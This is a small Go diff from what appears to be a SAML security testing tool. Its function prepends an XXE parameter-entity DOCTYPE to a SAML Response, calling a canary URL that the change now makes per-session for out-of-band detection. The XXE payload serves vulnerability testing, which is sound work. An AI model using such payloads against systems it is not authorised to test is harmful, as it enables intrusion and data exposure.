@@ -130,7 +130,7 @@ func prependXXE(d *Draft) error {
 	if d.idp.opts.CanaryURL == "" {
 		return fmt.Errorf("PD-06 needs Options.CanaryURL")
 	}
-	dtd := fmt.Sprintf(`<!DOCTYPE Response [<!ENTITY %% xxe SYSTEM %q> %%xxe;]>`+"\n", d.idp.opts.CanaryURL)
+	dtd := fmt.Sprintf(`<!DOCTYPE Response [<!ENTITY %% xxe SYSTEM %q> %%xxe;]>`+"\n", d.idp.canaryURL(d.session))
 	d.XML = append([]byte(dtd), d.XML...)
 	return nil
 }
